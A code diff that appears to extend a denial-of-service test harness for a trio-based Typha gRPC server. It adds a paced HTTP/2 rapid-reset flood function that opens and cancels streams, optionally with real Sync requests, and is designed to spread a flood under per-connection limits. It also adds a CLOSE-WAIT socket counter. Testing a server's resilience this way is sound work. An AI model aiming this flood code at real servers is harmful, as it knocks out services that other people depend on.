@@ -181,6 +181,67 @@ async def h2_flood(host: str, port: int, kind: Attack, *, seconds: float = 10.0,
     return outcome
 
 
+def _sync_start(sid: int) -> bytes:
+    """A real Sync start (felix) on stream ``sid``: the server answers with a session."""
+    from trio_typha.protocols.grpc import typha_pb2 as pb
+
+    start = pb.SyncRequest(start=pb.SyncRequestStart(syncer_type="felix", hostname="flood"))
+    payload = start.SerializeToString()
+    return DataFrame(sid, b"\x00" + len(payload).to_bytes(4, "big") + payload).serialize()
+
+
+async def h2_paced_reset(host: str, port: int, *, rate: float, seconds: float,
+                         sync_start: bool = False, ticks_per_second: int = 10) -> Outcome:
+    """Rapid reset at ``rate`` streams a second on one connection (each opened, with a real
+    Sync start if ``sync_start``, then reset), in ``ticks_per_second`` bursts, for
+    ``seconds`` or until the server closes it: one of many connections spreading a flood
+    under the per-connection budget."""
+    outcome = Outcome()
+    stream = await trio.open_tcp_stream(host, port)
+    encoder = hpack.Encoder()
+    sid = 1
+    per_tick = max(1, round(rate / ticks_per_second))
+    async with stream, trio.open_nursery() as nursery:
+        reader = _FrameReader(stream, outcome)
+        nursery.start_soon(reader.run)
+        try:
+            await stream.send_all(PREFACE + SettingsFrame(0).serialize())
+            with trio.move_on_after(seconds):
+                while outcome.goaway_code is None and not outcome.closed:
+                    out = bytearray()
+                    for _ in range(per_tick):
+                        out += _headers(encoder, sid)
+                        if sync_start:
+                            out += _sync_start(sid)
+                        rst = RstStreamFrame(sid)
+                        rst.error_code = 8  # CANCEL
+                        out += rst.serialize()
+                        sid += 2
+                    await stream.send_all(bytes(out))
+                    outcome.frames_sent += per_tick
+                    await trio.sleep(1 / ticks_per_second)
+        except (trio.BrokenResourceError, trio.ClosedResourceError):
+            pass
+        with trio.move_on_after(2):
+            await reader.done.wait()
+        nursery.cancel_scope.cancel()
+    return outcome
+
+
+def close_wait_count(port: int) -> int:
+    """Sockets on local TCP ``port`` in CLOSE-WAIT (the peer has gone, we have not closed),
+    from /proc/net/tcp and tcp6."""
+    count = 0
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        with contextlib.suppress(OSError), open(table) as fh:
+            next(fh)
+            for line in fh:
+                fields = line.split()
+                if int(fields[1].rsplit(":", 1)[1], 16) == port and fields[3] == "08":
+                    count += 1
+    return count
+
+
 async def h2_oversized_frame(host: str, port: int, *, length: int = (1 << 24) - 1,
                              wait: float = 10.0) -> Outcome:
     """Open a stream, then send a DATA frame header announcing ``length`` bytes (more
